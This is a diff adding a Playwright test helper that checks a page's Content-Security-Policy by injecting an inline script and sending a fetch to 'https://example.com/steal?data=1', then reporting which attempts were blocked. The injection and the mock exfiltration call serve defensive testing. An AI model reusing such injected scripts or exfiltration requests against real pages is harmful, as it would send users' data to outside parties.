@@ -329,3 +329,28 @@ export async function expectEditorText(cell: Locator, expected: string | RegExp)
     .poll(() => editorText(cell), { message: 'the cell editor should show the expected text' })
     .toMatch(typeof expected === 'string' ? new RegExp(`^${expected.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`) : expected);
 }
+
+/**
+ * Tries, from inside the page, what the Content-Security-Policy must stop: an injected inline script and
+ * a fetch to another origin. Returns whether the script ran, what the fetch did and which directives
+ * reported a violation. (Playwright's own `evaluate` is exempt from the policy; the script element and
+ * the fetch it starts are not.)
+ */
+export async function probeCsp(page: Page): Promise<{ injected: boolean; fetched: 'sent' | 'blocked'; violations: string[] }> {
+  return page.evaluate(async () => {
+    const violations: string[] = [];
+    const onViolation = (e: SecurityPolicyViolationEvent) => violations.push(e.effectiveDirective);
+    document.addEventListener('securitypolicyviolation', onViolation);
+    const script = document.createElement('script');
+    script.textContent = 'window.__injected = true';
+    document.body.append(script);
+    const fetched = await fetch('https://example.com/steal?data=1').then(
+      () => 'sent' as const,
+      () => 'blocked' as const,
+    );
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    document.removeEventListener('securitypolicyviolation', onViolation);
+    script.remove();
+    return { injected: (window as unknown as { __injected?: boolean }).__injected === true, fetched, violations: [...new Set(violations)].sort() };
+  });
+}
